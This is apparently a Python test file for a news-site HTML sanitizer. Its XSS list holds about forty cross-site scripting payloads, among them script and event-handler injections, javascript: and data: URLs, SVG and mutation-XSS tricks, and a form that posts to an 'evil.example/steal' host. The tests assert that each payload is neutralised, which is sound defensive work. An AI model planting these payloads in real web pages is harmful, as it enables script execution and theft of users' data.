"""sanitize_html keeps article markup and drops everything active; html_to_text reads plain text."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from selectolax.lexbor import LexborHTMLParser

from newsmirror.sanitize import ALLOWED_TAGS, html_to_text, sanitize_html

XSS = [
    "<script>alert(1)</script>ok",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>ok",
    "<img src=x onerror=alert(1)>",
    '<img src="https://e.example/a.png" onerror="alert(1)" onload="alert(2)">',
    "<svg onload=alert(1)><circle r=1></circle></svg>",
    '<svg><use href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x"></use></svg>',
    '<svg><use href="https://evil.example/sprite.svg#x"></use></svg>',
    '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><use xlink:href="data:x,y#z"></use></svg>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="javascript:alert(1)">',
    '<iframe src="https://evil.example/"></iframe>ok',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<div style="width: expression(alert(1)); background:url(javascript:alert(1))">s</div>',
    "<style>body{background:url(javascript:alert(1))}</style>ok",
    '<form action="https://evil.example/steal"><input name=p value=1><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">ok',
    '<link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/">ok',
    "<p><scr<script>ipt>alert(1)</scr</script>ipt></p>",
    "<<script>alert(1)//<</script>",
    '<p onclick="alert(1)" onmouseover="alert(2)">x</p>',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<a href="https://ok.example/" onmouseover="alert(1)" target="_blank">x</a>',
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    '<details open ontoggle="alert(1)">x</details>',
    "<template><script>alert(1)</script></template>ok",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<div id="x" class="a b" data-x="1" aria-label="y">t</div>',
    "<!--<img src=x onerror=alert(1)>-->ok",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
]

_OK_SCHEMES = ("http://", "https://", "mailto:", "#")


def assert_inert(html: str) -> None:
    """No disallowed tag, no event handler or style, only http(s)/mailto/fragment URLs, no script text."""
    tree = LexborHTMLParser(f"<body>{html}</body>")
    for node in tree.body.traverse():
        assert node.tag in ALLOWED_TAGS | {"body"}, (node.tag, html)
        for name, value in node.attributes.items():
            assert not name.lower().startswith("on"), html
            assert name.lower() not in {"style", "srcdoc", "action", "formaction", "background", "id"}, html
            if name.lower() in {"href", "src", "xlink:href"}:
                assert (value or "").startswith(_OK_SCHEMES), html
    assert not re.search(r"(?i)javascript:|vbscript:|data:", html), html


@pytest.mark.parametrize("payload", XSS)
def test_xss_payload_is_neutralised(payload):
    clean = sanitize_html(payload, base_url="https://news.example/a/1.html")
    assert_inert(clean)
    assert sanitize_html(clean, base_url="https://news.example/a/1.html") == clean  # stable


def test_xss_payload_text_stays_text():
    clean = sanitize_html("<p>before<script>alert(1)</script>after</p>")
    assert clean == "<p>beforeafter</p>"
    assert sanitize_html('<form action="x">標籤<input value=1></form>') == "標籤"


def test_article_markup_survives():
    html = (
        '<h2>小標</h2><p>正文 <strong>粗</strong> <em>斜</em> <a href="https://n.example/x?a=1&amp;b=2">連結</a>'
        '<br>下一行</p><ul><li>一</li><li>二</li></ul><ol start="3"><li>三</li></ol>'
        '<table><caption>表說明</caption><thead><tr><th colspan="2">頭</th></tr></thead>'
        '<tbody><tr><td>甲</td><td rowspan="1">乙</td></tr></tbody></table>'
        '<figure><img src="https://n.example/p.jpg" alt="圖" title="題" width="640" height="480">'
        "<figcaption>圖說</figcaption></figure><blockquote>引述</blockquote><pre><code>x = 1</code></pre>"
        '<p><sub>下</sub><sup>上</sup><small>小</small><u>底</u><b>b</b><i>i</i></p><hr>'
        '<a href="mailto:news@n.example">信</a>'
    )
    clean = sanitize_html(html)
    for piece in [
        "<h2>小標</h2>", "<strong>粗</strong>", "<em>斜</em>", '<ul><li>一</li><li>二</li></ul>',
        '<ol start="3">', "<caption>表說明</caption>", '<th colspan="2">頭</th>', '<td rowspan="1">乙</td>',
        '<img src="https://n.example/p.jpg" alt="圖" title="題" width="640" height="480">',
        "<figcaption>圖說</figcaption>", "<blockquote>引述</blockquote>", "<pre><code>x = 1</code></pre>",
        "<sub>下</sub>", "<sup>上</sup>", "<small>小</small>", "<u>底</u>", "<hr>", "<br>",
        '<a href="https://n.example/x?a=1&amp;b=2" rel="noopener noreferrer">連結</a>',
        '<a href="mailto:news@n.example" rel="noopener noreferrer">信</a>',
    ]:
        assert piece in clean, piece


def test_relative_urls_made_absolute_against_base():
    html = '<a href="/news/2.html">二</a><img src="../img/p.png"><img src="//cdn.example/q.png"><a href="#note">註</a>'
    clean = sanitize_html(html, base_url="https://n.example/news/a/1.html")
    assert 'href="https://n.example/news/2.html"' in clean
    assert 'src="https://n.example/news/img/p.png"' in clean
    assert 'src="https://cdn.example/q.png"' in clean
    assert 'href="#note"' in clean


def test_relative_urls_without_base_are_dropped():
    clean = sanitize_html('<a href="/news/2.html">二</a><img src="p.png" alt="圖">')
    assert "href" not in clean and "src" not in clean
    assert "二" in clean and 'alt="圖"' in clean


def test_class_kept_as_plain_tokens():
    clean = sanitize_html('<div class="paragraph moreArticle  flexhalf x&quot;y {}">t</div>')
    assert clean == '<div class="paragraph moreArticle flexhalf">t</div>'


def test_svg_keeps_only_in_document_use():
    clean = sanitize_html('<svg width="6" height="6" onload="x()"><use href="#svg-dot"></use></svg>'
                          '<svg><use href="https://evil.example/s.svg#a"></use><use xlink:href="#b"></use></svg>')
    assert clean.startswith('<svg width="6" height="6"><use href="#svg-dot"></use></svg>')
    assert "evil" not in clean
    assert sanitize_html('<svg><use xlink:href="data:image/svg+xml,x#a"></use></svg>') == "<svg><use></use></svg>"


def _seed_body(seeds_dir: Path) -> str:
    seed = (seeds_dir / "000_2e124f6b3491d5a3.txt").read_text(encoding="utf-8")
    return seed.split("<div>\n", 1)[1].rsplit("\n</div>\n", 1)[0]


def test_seed_markup_round_trips(seeds_dir):
    body = _seed_body(seeds_dir)
    assert sanitize_html(body, link_rel=None) == body
    with_rel = sanitize_html(body, base_url="https://www.cna.com.tw/news/aopl/202309110257.aspx")
    assert with_rel == body.replace('.aspx">', '.aspx" rel="noopener noreferrer">')
    assert with_rel.count('rel="noopener noreferrer"') == 4
    assert with_rel.count('<use href="#svg-dot"></use>') == 4


def test_lone_surrogates_and_empty_input():
    assert sanitize_html("") == ""
    assert sanitize_html("<p>a\ud800b</p>") == "<p>a\ufffdb</p>"
    assert html_to_text("a\udfffb") == "a\ufffdb"


def test_html_to_text_paragraphs_entities_whitespace():
    html = (
        "<h1>標題</h1><p>第一段 &amp; &lt;b&gt;\n   續行&nbsp;文字</p><p>第二段<br>換行</p>"
        "<script>var x = 1;</script><style>p{}</style><div>三<br><br>四</div>"
        "<ul><li>甲</li><li>乙</li></ul><table><tr><td>1</td><td>2</td></tr></table><!-- 註解 -->"
    )
    assert html_to_text(html) == "標題\n\n第一段 & <b> 續行 文字\n\n第二段\n換行\n\n三\n\n四\n\n甲\n乙\n\n1 2"


def test_html_to_text_full_document_skips_head():
    html = "<html><head><title>站名</title><script>x()</script></head><body><p>內文</p></body></html>"
    assert html_to_text(html) == "內文"


def test_html_to_text_deep_nesting_does_not_recurse():
    assert html_to_text("<div>" * 5000 + "深" + "</div>" * 5000) == "深"


def test_html_to_text_seed(seeds_dir):
    text = html_to_text(_seed_body(seeds_dir))
    paragraphs = text.split("\n\n")
    assert paragraphs[0].startswith("（中央社記者廖禹揚首爾11日專電）")
    assert "（編輯：高照芬）1120911" in paragraphs[7]
    assert "金正恩愛女出席閱兵式 接班勢頭更顯 金正恩會見中國副總理" in text
    assert "<" not in text


def test_relative_links_resolve_against_each_calls_own_base_across_threads():
    """The cleaners are shared; each call's base URL is its own, also when threads sanitize at once."""
    from concurrent.futures import ThreadPoolExecutor

    def clean(n: int) -> tuple[int, str]:
        return n, sanitize_html(f'<p><a href="x/{n}.html">第{n}則</a><img src="/i/{n}.jpg"></p>',
                                base_url=f"https://s{n % 7}.example.tw/news/")

    with ThreadPoolExecutor(8) as pool:
        for n, out in pool.map(clean, range(400)):
            assert f'href="https://s{n % 7}.example.tw/news/x/{n}.html"' in out
            assert f'src="https://s{n % 7}.example.tw/i/{n}.jpg"' in out
    assert 'href' not in sanitize_html('<a href="x/1.html">沒有基準</a>')  # no base: a relative link is dropped
    assert sanitize_html('<a href="x.html" rel="tag">y</a>', base_url="https://a.example/", link_rel="tag") == \
        '<a href="https://a.example/x.html" rel="tag">y</a>'
